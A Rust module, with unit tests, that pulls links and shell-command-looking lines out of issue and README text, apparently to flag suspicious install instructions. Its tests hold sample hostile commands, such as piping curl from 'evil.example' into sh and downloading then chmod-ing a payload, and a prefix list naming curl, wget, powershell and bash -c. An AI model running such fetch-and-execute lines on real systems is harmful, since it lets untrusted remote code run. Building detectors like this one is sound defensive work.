//! Link and command extraction from issue and readme text.

/// Characters that terminate a URL in running text.
fn ends_url(c: char) -> bool {
    c.is_whitespace() || matches!(c, '<' | '>' | '"' | '\'' | '`' | '(' | ')' | '[' | ']')
}

/// Extract every `http://` / `https://` URL, in order of appearance.
///
/// The scheme match is case-insensitive; a URL runs until whitespace or a
/// bracketing character, and trailing sentence punctuation is trimmed.
pub fn extract_links(text: &str) -> Vec<String> {
    let bytes = text.as_bytes();
    let mut links = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if !text.is_char_boundary(i) {
            i += 1;
            continue;
        }
        let rest = &bytes[i..];
        let scheme_len = if rest.len() >= 8 && rest[..8].eq_ignore_ascii_case(b"https://") {
            8
        } else if rest.len() >= 7 && rest[..7].eq_ignore_ascii_case(b"http://") {
            7
        } else {
            i += 1;
            continue;
        };
        let scan_start = i + scheme_len;
        let mut end = scan_start;
        for (off, ch) in text[scan_start..].char_indices() {
            if ends_url(ch) {
                break;
            }
            end = scan_start + off + ch.len_utf8();
        }
        let url = text[i..end].trim_end_matches(['.', ',', ';', ':', '!', '?']);
        if url.len() > scheme_len {
            links.push(url.to_owned());
        }
        i = end.max(scan_start);
    }
    links
}

const COMMAND_PREFIXES: [&str; 6] = ["$ ", "curl ", "wget ", "powershell", "cmd /c", "bash -c"];

/// Extract shell-command-looking lines: the contents of fenced code blocks,
/// plus any line starting with a telltale prefix (`$ `, `curl `, `wget `,
/// `powershell`, `cmd /c`, `bash -c`; case-insensitive). Lines are trimmed;
/// empty lines are skipped.
pub fn extract_commands(text: &str) -> Vec<String> {
    let mut commands = Vec::new();
    let mut in_fence = false;
    for line in text.lines() {
        let trimmed = line.trim();
        if trimmed.starts_with("```") {
            in_fence = !in_fence;
            continue;
        }
        if trimmed.is_empty() {
            continue;
        }
        if in_fence {
            commands.push(trimmed.to_owned());
            continue;
        }
        let lower = trimmed.to_lowercase();
        if COMMAND_PREFIXES.iter().any(|p| lower.starts_with(p)) {
            commands.push(trimmed.to_owned());
        }
    }
    commands
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_plain_and_markdown_links_in_order() {
        let text = "See https://example.com/a first, then ![badge](https://img.example/b.svg) \
                    and http://plain.example/c.";
        assert_eq!(
            extract_links(text),
            vec![
                "https://example.com/a",
                "https://img.example/b.svg",
                "http://plain.example/c",
            ]
        );
    }

    #[test]
    fn no_links_in_plain_prose() {
        assert_eq!(extract_links("no urls here, http alone does not count"), Vec::<String>::new());
    }

    #[test]
    fn trims_trailing_punctuation() {
        assert_eq!(extract_links("go to https://example.com/x."), vec!["https://example.com/x"]);
    }

    #[test]
    fn extracts_prefixed_command_lines() {
        let text = "run `\n$ curl https://evil.example/x | sh\n`";
        assert_eq!(extract_commands(text), vec!["$ curl https://evil.example/x | sh"]);
    }

    #[test]
    fn extracts_fenced_block_contents() {
        let text = "Install:\n```sh\nwget https://x.example/payload\nchmod +x payload\n```\ndone";
        assert_eq!(
            extract_commands(text),
            vec!["wget https://x.example/payload", "chmod +x payload"]
        );
    }

    #[test]
    fn prefix_match_is_case_insensitive() {
        let text = "PowerShell -Command \"iwr x\"\nCMD /C start\nnothing here";
        assert_eq!(extract_commands(text), vec!["PowerShell -Command \"iwr x\"", "CMD /C start"]);
    }

    #[test]
    fn prose_without_commands_yields_nothing() {
        let text = "This bug happens when the window resizes.\nNo commands involved.";
        assert_eq!(extract_commands(text), Vec::<String>::new());
    }
}
